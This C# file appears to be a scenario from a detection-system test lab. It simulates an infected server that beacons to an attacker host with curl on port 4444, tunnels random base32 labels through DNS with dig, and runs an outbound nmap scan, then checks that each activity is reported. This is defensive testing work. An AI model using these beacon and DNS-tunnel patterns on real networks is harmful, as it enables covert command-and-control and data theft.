using System.Globalization;
using System.Net;
using Blackwall.Lab.Tools;

namespace Blackwall.Lab.Story.Scenes;

/// <summary>
/// The protected server has caught something: it checks in with a master outside (curl, over IPv6), speaks through a name server (dig) and
/// scans (nmap). All of that is told, and neither the server nor anybody else is blocked for it.
/// </summary>
public sealed class InsideScene : IScene
{
    private const int CheckIns = 31;
    private const int Names = 45;

    private static readonly TimeSpan s_period = TimeSpan.FromMilliseconds(700);
    private static readonly TimeSpan s_limit = TimeSpan.FromSeconds(20);

    public string Title => "An infected server (curl, dig, nmap from inside)";

    public async Task PlayAsync(Play play, CancellationToken cancellation)
    {
        var stage = play.Stage;
        var (server, master) = (stage.Network.Server, stage.Network.Attacker);
        play.Narrator.Say("the server checks in with a master, tunnels through DNS and scans the outside");
        var known = (await stage.Api.DecisionsAsync(about: null, cancellation)).Select(d => d.Id).ToHashSet();
        await Task.WhenAll(
            CheckInAsync(stage, master.Addresses6[16], cancellation),
            TunnelAsync(stage, master.Addresses4[17], cancellation),
            server.Network.TryAsync(["nmap", "-sT", "-Pn", "-n", "-T4", "--max-retries", "0", "-p", "2000-2060", master.Addresses4[18].ToString()], s_limit, cancellation));
        await ToldAsync(play, server.Addresses6[0], "beacon", cancellation);
        await ToldAsync(play, server.Addresses4[0], "dns-tunnel", cancellation);
        await ToldAsync(play, server.Addresses4[0], "outbound-scan", cancellation);
        var blocks = (await stage.Api.DecisionsAsync(about: null, cancellation)).Count(d => d.Blocks && !known.Contains(d.Id));
        play.Facts.None(Title, "addresses blocked for it", blocks);
    }

    private async Task ToldAsync(Play play, IPAddress inside, string kind, CancellationToken cancellation)
    {
        var seen = await Tool.UntilAsync(
            async () => (await play.Stage.Api.EvidenceKindsAsync(inside, cancellation)).Contains(kind, StringComparer.Ordinal), s_limit, cancellation);
        play.Facts.Is(Title, $"told of {inside}", kind, seen ? kind : "nothing of the kind");
    }

    private static async Task CheckInAsync(Stage stage, IPAddress master, CancellationToken cancellation)
    {
        Random jitter = new(7);
        for (var i = 0; i < CheckIns; i++)
        {
            await stage.Network.Server.Network.TryAsync(["curl", "-s", "-o", "/dev/null", "--max-time", "1", $"http://[{master}]:4444/"], s_limit, cancellation);
            await Tool.PauseAsync(s_period * (0.8 + (0.4 * jitter.NextDouble())), cancellation);
        }
    }

    // Nobody answers there; the port is closed, so each question fails at once.
    private static async Task TunnelAsync(Stage stage, IPAddress nameServer, CancellationToken cancellation)
    {
        Random payload = new(11);
        var file = stage.Run.File("questions");
        await File.WriteAllLinesAsync(file, Enumerable.Range(0, Names).Select(i => $"{Word(payload, 48)}.{i.ToString(CultureInfo.InvariantCulture)}.t.example.org TXT"), cancellation);
        await stage.Network.Server.Network.TryAsync(["dig", $"@{nameServer}", "+tries=1", "+time=1", "-f", file], TimeSpan.FromSeconds(60), cancellation);
    }

    private static string Word(Random random, int length) => string.Concat(Enumerable.Range(0, length).Select(_ => "abcdefghijklmnopqrstuvwxyz234567"[random.Next(32)]));
}
